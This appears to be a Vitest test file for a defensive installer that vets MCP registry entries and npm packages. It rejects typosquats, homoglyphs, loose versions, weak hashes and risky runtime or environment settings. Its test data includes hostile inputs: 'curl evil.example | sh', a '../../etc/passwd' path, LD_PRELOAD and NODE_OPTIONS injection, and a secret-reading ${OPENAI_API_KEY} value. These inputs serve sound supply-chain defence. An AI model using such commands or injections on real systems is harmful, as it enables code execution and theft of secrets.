import { describe, expect, it } from "vitest";
import type { RegistryEntry } from "../schema/registry.ts";
import { deriveServer, shortServerId } from "./derive-server.ts";
import { judgeEntry, judgePackage, MIN_AGE_DAYS, npmPackageOf, type PackageFacts } from "./judge-install.ts";

const NOW = Date.parse("2026-06-01T00:00:00Z");
const NAME = "io.github.someone/server-notes";
const has = { environment: new Set<string>(), servers: [] };

type PackageChanges = Partial<NonNullable<RegistryEntry["packages"]>[number]>;

function entry(changes: Partial<RegistryEntry> = {}, inPackage: PackageChanges = {}): RegistryEntry {
  const npm = {
    registryType: "npm",
    identifier: "@someone/server-notes",
    version: "1.2.3",
    transport: { type: "stdio" },
    ...inPackage,
  };
  return { name: NAME, description: "Keeps notes.", version: "1.2.3", status: "active", packages: [npm], ...changes };
}

const facts: PackageFacts = {
  name: "@someone/server-notes",
  version: "1.2.3",
  integrity: "sha512-abc",
  publishedAt: "2026-05-01T00:00:00Z",
  mcpName: NAME,
  program: "dist/index.js",
  installScripts: [],
};

const codes = (found: readonly { readonly code: string }[]): string[] => found.map(({ code }) => code);

describe("an entry of the registry", () => {
  it("of an honest server has nothing against it", () => {
    expect(judgeEntry(entry(), has)).toEqual([]);
    expect(judgePackage(entry(), facts, NOW)).toEqual([]);
  });

  it.each<[string, RegistryEntry, string]>([
    ["is withdrawn", entry({ status: "deleted" }), "not_active"],
    [
      "has invisible characters in its name",
      entry({ name: "io.github.some\u200bone/server-notes" }),
      "hidden_characters",
    ],
    ["has letters of another script", entry({}, { identifier: "@someоne/server-notes" }), "hidden_characters"],
    ["has no package at all", entry({ packages: [] }), "no_npm_package"],
    ["is an image to be run", entry({}, { registryType: "oci" }), "no_npm_package"],
    ["names a command, not a package", entry({}, { identifier: "curl evil.example | sh" }), "name_invalid"],
    ["names a file", entry({}, { identifier: "../../etc/passwd" }), "name_invalid"],
    ["names an address", entry({}, { identifier: "git+https://evil.example/x.git" }), "name_invalid"],
    ["asks for the latest version", entry({}, { version: "latest" }), "version_not_exact"],
    ["asks for a range", entry({}, { version: "^1.2.3" }), "version_not_exact"],
    ["has a digit for a letter", entry({}, { identifier: "@modelcontextprotoco1/server-memory" }), "look_alike"],
    ["has a letter left out", entry({}, { identifier: "@modelcontextprotocl/server-memory" }), "look_alike"],
    ["swaps two letters", entry({}, { identifier: "fircerawl-mcp" }), "look_alike"],
    ["wants another runtime", entry({}, { runtimeHint: "bash" }), "runtime_changed"],
    [
      "wants flags for Node",
      entry({}, { runtimeArguments: [{ type: "named", name: "--require", value: "x" }] }),
      "runtime_changed",
    ],
    [
      "sets NODE_OPTIONS",
      entry({}, { environmentVariables: [{ name: "NODE_OPTIONS", value: "-r x" }] }),
      "environment_changed",
    ],
    [
      "sets LD_PRELOAD",
      entry({}, { environmentVariables: [{ name: "LD_PRELOAD", value: "x.so" }] }),
      "environment_changed",
    ],
    ["sets PATH", entry({}, { environmentVariables: [{ name: "PATH", value: "/tmp" }] }), "environment_changed"],
    [
      "sets what is no name",
      entry({}, { environmentVariables: [{ name: "A=B\nC", value: "1" }] }),
      "environment_changed",
    ],
    [
      "helps itself to a secret",
      entry({}, { environmentVariables: [{ name: "X", value: "${OPENAI_API_KEY}" }] }),
      "environment_changed",
    ],
    [
      "needs a key that is not there",
      entry({}, { environmentVariables: [{ name: "NOTES_KEY", isRequired: true }] }),
      "value_missing",
    ],
    [
      "needs an argument that is not given",
      entry({}, { packageArguments: [{ type: "positional", isRequired: true }] }),
      "value_missing",
    ],
  ])("that %s is refused", (_, given, code) => {
    const found = judgeEntry(given, has);
    expect(codes(found)).toContain(code);
    // What a person reads shows everything and changes nothing else.
    for (const { message } of found) expect(message).toMatch(/^[^\p{Cc}\p{Cf}]*$/u);
  });

  it("that needs a key which is there may be installed", () => {
    const needs = entry({}, { environmentVariables: [{ name: "NOTES_KEY", isRequired: true, isSecret: true }] });
    expect(judgeEntry(needs, { environment: new Set(["NOTES_KEY"]), servers: [] })).toEqual([]);
  });
});

describe("a package", () => {
  it.each<[string, Partial<PackageFacts>, string]>([
    ["that claims another server", { mcpName: "io.github.other/x" }, "identity_unproven"],
    ["that claims none", { mcpName: undefined }, "identity_unproven"],
    ["without a hash", { integrity: undefined }, "integrity_unknown"],
    ["with a weak hash", { integrity: "sha1-abc" }, "integrity_unknown"],
    ["without a program", { program: undefined }, "no_program"],
    ["of yesterday", { publishedAt: "2026-05-31T00:00:00Z" }, "too_young"],
    ["of nobody knows when", { publishedAt: undefined }, "too_young"],
  ])("%s is refused", (_, changes, code) => {
    expect(codes(judgePackage(entry(), { ...facts, ...changes }, NOW))).toEqual([code]);
  });

  it("is old enough on the very day", () => {
    const at = (ms: number): PackageFacts => ({ ...facts, publishedAt: new Date(NOW - ms).toISOString() });
    expect(judgePackage(entry(), at(MIN_AGE_DAYS * 86_400_000), NOW)).toEqual([]);
    expect(codes(judgePackage(entry(), at(MIN_AGE_DAYS * 86_400_000 - 1), NOW))).toEqual(["too_young"]);
  });
});

describe("the configuration of an installed server", () => {
  it("runs the package's own program, switched off, with secrets by reference", () => {
    const given = entry(
      {},
      {
        packageArguments: [
          { type: "named", name: "--mode", value: "quiet" },
          { type: "positional", default: "notes" },
          { type: "positional" },
        ],
        environmentVariables: [
          { name: "NOTES_KEY", isRequired: true, isSecret: true },
          { name: "NOTES_LEVEL", default: "info" },
          { name: "NOTES_EXTRA" },
        ],
      },
    );
    expect(npmPackageOf(given)?.identifier).toBe("@someone/server-notes");
    expect(
      deriveServer(given, { id: "notes", node: "/node", program: "/s/notes/index.js", folder: "/s/notes" }),
    ).toEqual({
      id: "notes",
      name: "notes",
      command: "/node",
      args: ["/s/notes/index.js", "--mode", "quiet", "notes"],
      env: { NOTES_KEY: "${NOTES_KEY}", NOTES_LEVEL: "info" },
      access: { read: ["/s/notes"], network: false },
      enabled: false,
    });
  });

  it.each([
    ["io.github.modelcontextprotocol/server-memory", "memory"],
    ["com.example/notes-mcp", "notes"],
    ["com.example/mcp-server", "server"],
    ["com.example/Big_Notes", "big-notes"],
  ])("calls %s %s", (name, id) => {
    expect(shortServerId(name)).toBe(id);
  });
});
